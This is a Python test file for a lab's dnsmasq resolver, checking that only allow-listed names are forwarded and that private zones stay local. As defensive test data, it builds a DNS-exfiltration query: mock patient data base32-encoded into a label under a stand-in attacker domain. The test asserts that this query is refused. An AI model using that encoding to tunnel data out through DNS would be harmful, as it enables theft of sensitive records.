"""The lab's resolver: what it answers, what it forwards, and what it refuses (offline, no root).

The configuration tests read what ``lab.dns`` writes; the resolver tests run that configuration in
a real dnsmasq on the loopback (the lab's bridges need root), in front of a stand-in upstream that
records every name it is asked.
"""

from __future__ import annotations

import base64
import os
import shutil
import signal
import socket
import struct
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from blueprints.dns_allowlist import AllowedName, allowed_names, domain_of
from blueprints.topology import private_dns_zone
from lab.address_plan import address_plan
from lab.dns import dnsmasq_config, forwarded_names

# Azure names that depend on the subscription: the caller gives them.
VAULT, STORAGE, AIRLOCK = "kv-exnhsdevuksabcdefghij", "stexnhsdevuksgitabcdefg", "stexnhsdevuksairlockabc"
REFUSED, NXDOMAIN, NOERROR = 5, 3, 0
# What a notebook would send to carry data out: bytes encoded into a label under a domain its author runs.
EXFILTRATION = base64.b32encode(b"patient-id 943 476 5919, diagnosis").decode().rstrip("=").lower()[:63]
ATTACKER_NAME = f"{EXFILTRATION}.t.exfil-example.net"


def _allowed(config: dict) -> list[AllowedName]:
    return allowed_names(config, VAULT, STORAGE, AIRLOCK)


# ---------------------------------------------------------------------------- the allow-list

def test_allow_list_names_the_private_zone_the_vault_and_the_mirror_upstreams(example_config):
    names = {entry.name: entry for entry in _allowed(example_config)}
    assert names[private_dns_zone(example_config)].private
    assert f"{VAULT}.vault.azure.net" in names
    upstreams = example_config["roles"]["package_mirror"]["upstreams"]
    for url in upstreams.values():
        assert domain_of(url) in names, url
    assert "files.pythonhosted.org" in names  # where pypi.org's index sends pip for the files


def test_allow_list_has_no_catch_all_and_no_public_suffix_alone(example_config):
    for entry in _allowed(example_config):
        assert entry.name.count(".") >= 1 and entry.name not in ("net", "com", "org", "azure.com", "windows.net")


def test_an_upstream_given_as_an_address_needs_no_name():
    assert domain_of("http://127.0.0.1:8089") is None
    assert domain_of("https://PyPI.org./simple") == "pypi.org"


def test_gateway_names_follow_its_kind(example_config):
    bastion = {**example_config, "roles": {**example_config["roles"],
                                            "gateway": {**example_config["roles"]["gateway"], "kind": "bastion"}}}
    assert "login.microsoftonline.com" in {e.name for e in _allowed(example_config)}
    assert "login.microsoftonline.com" not in {e.name for e in _allowed(bastion)}


# ---------------------------------------------------------------------------- the configuration

def test_resolver_forwards_only_allowed_names(example_config, tmp_path):
    allowed = _allowed(example_config)
    config = dnsmasq_config(address_plan(example_config), private_dns_zone(example_config), ["192.0.2.53"],
                            tmp_path, allowed=allowed).splitlines()
    servers = [line for line in config if line.startswith("server=")]
    assert servers, "the mirror could not resolve its upstreams"
    assert all(line.startswith("server=/") for line in servers), "a bare server= line forwards every name"
    assert {line.split("/")[1] for line in servers} == {e.name for e in allowed if not e.private}
    assert "log-queries" in config


def test_private_zones_are_answered_locally_never_forwarded(example_config, tmp_path):
    config = dnsmasq_config(address_plan(example_config), private_dns_zone(example_config), ["192.0.2.53"],
                            tmp_path, allowed=_allowed(example_config)).splitlines()
    assert f"local=/{private_dns_zone(example_config)}/" in config
    assert "local=/privatelink.vaultcore.azure.net/" in config
    assert not any(line.startswith("server=/privatelink.") for line in config)


def test_without_an_allow_list_nothing_is_forwarded(example_config, tmp_path):
    config = dnsmasq_config(address_plan(example_config), "exnhs-dev.internal", ["192.0.2.53"], tmp_path)
    assert not any(line.startswith("server=") for line in config.splitlines())


def test_forwarded_names_reads_dnsmasq_log_lines(tmp_path):
    (tmp_path / "dnsmasq.log").write_text(
        "Dec  2 14:43:50 dnsmasq[2096]: query[A] pypi.org from 10.20.2.4\n"
        "Dec  2 14:43:50 dnsmasq[2096]: forwarded pypi.org to 192.0.2.53\n"
        "Dec  2 14:43:51 dnsmasq[2096]: query[A] abc.exfil-example.net from 10.20.3.4\n"
        "Dec  2 14:43:51 dnsmasq[2096]: config error is REFUSED (EDE: not ready)\n"
        "Dec  2 14:43:52 dnsmasq[2096]: forwarded Files.PythonHosted.org to 192.0.2.53#53\n")
    assert forwarded_names(tmp_path) == ["pypi.org", "files.pythonhosted.org"]
    assert forwarded_names(tmp_path / "absent") == []


# ---------------------------------------------------------------------------- a running resolver

def _query(port: int, name: str) -> int:
    """Send one A query to 127.0.0.1:port; the response code."""
    question = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
    packet = struct.pack(">HHHHHH", 0x7462, 0x0100, 1, 0, 0, 0) + question + struct.pack(">HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(5)
        client.sendto(packet, ("127.0.0.1", port))
        reply, _ = client.recvfrom(4096)
    return reply[3] & 0x0F


class _Upstream:
    """A stand-in for the Internet's resolvers: answers every A query with 192.0.2.7 and records the name."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                data, sender = self.socket.recvfrom(4096)
            except OSError:
                return
            offset, labels = 12, []
            while data[offset]:
                labels.append(data[offset + 1:offset + 1 + data[offset]].decode())
                offset += 1 + data[offset]
            self.asked.append(".".join(labels).lower())
            question_end = offset + 5
            answer = struct.pack(">HHIH", 1, 1, 60, 4) + bytes((192, 0, 2, 7))
            self.socket.sendto(data[:2] + struct.pack(">HHHHH", 0x8180, 1, 1, 0, 0) + data[12:question_end]
                               + b"\xc0\x0c" + answer, sender)


def _free_port() -> int:
    """A loopback port free for both UDP and TCP (dnsmasq listens on both)."""
    while True:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as tcp:
            tcp.bind(("127.0.0.1", 0))
            port = tcp.getsockname()[1]
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
                try:
                    udp.bind(("127.0.0.1", port))
                except OSError:
                    continue
        return port


@pytest.fixture
def resolver(example_config, tmp_path) -> Iterator[tuple[int, _Upstream, Path]]:
    if shutil.which("dnsmasq") is None:
        pytest.fail("dnsmasq is not installed (tests/host-packages.txt lists dnsmasq-base; run `make host-deps`)")
    upstream = _Upstream()
    port = _free_port()
    plan = address_plan(example_config)
    config = dnsmasq_config(plan, private_dns_zone(example_config), [f"127.0.0.1#{upstream.port}"], tmp_path,
                            {f"{VAULT}.vault.azure.net": "10.20.2.254"}, _allowed(example_config), port=port)
    # The lab listens on its bridges' addresses, which need root; the same configuration on the loopback.
    config = config.replace(f"listen-address={','.join(plan.subnet_gateways.values())}", "listen-address=127.0.0.1")
    conf = tmp_path / "dnsmasq.conf"
    conf.write_text(config)
    result = subprocess.run(["dnsmasq", f"--conf-file={conf}"], capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stderr
    pid_file = tmp_path / "dnsmasq.pid"
    for _ in range(50):
        if pid_file.exists() and pid_file.read_text().strip():
            break
        time.sleep(0.1)
    pid = int(pid_file.read_text())
    try:
        yield port, upstream, tmp_path
    finally:
        os.kill(pid, signal.SIGTERM)
        upstream.socket.close()


def test_an_allowed_name_and_names_under_it_reach_the_upstream(resolver):
    port, upstream, directory = resolver
    assert _query(port, "pypi.org") == NOERROR
    assert _query(port, "tb-probe-1.deb.debian.org") == NOERROR
    assert upstream.asked == ["pypi.org", "tb-probe-1.deb.debian.org"]
    assert forwarded_names(directory) == ["pypi.org", "tb-probe-1.deb.debian.org"]


def test_an_encoded_label_under_another_domain_never_reaches_the_upstream(resolver):
    port, upstream, directory = resolver
    assert _query(port, ATTACKER_NAME) == REFUSED
    assert _query(port, "example.com") == REFUSED
    assert _query(port, "evilpypi.org") == REFUSED  # a suffix in text, not a name under pypi.org
    assert upstream.asked == []
    assert forwarded_names(directory) == []


def test_internal_and_platform_names_are_answered_without_the_upstream(resolver, example_config):
    port, upstream, _ = resolver
    zone = private_dns_zone(example_config)
    assert _query(port, f"mirror.{zone}") == NOERROR
    assert _query(port, f"nothing-here.{zone}") == NXDOMAIN
    assert _query(port, f"{VAULT}.vault.azure.net") == NOERROR
    assert _query(port, "kv-someone-else.privatelink.vaultcore.azure.net") == NXDOMAIN
    assert upstream.asked == []
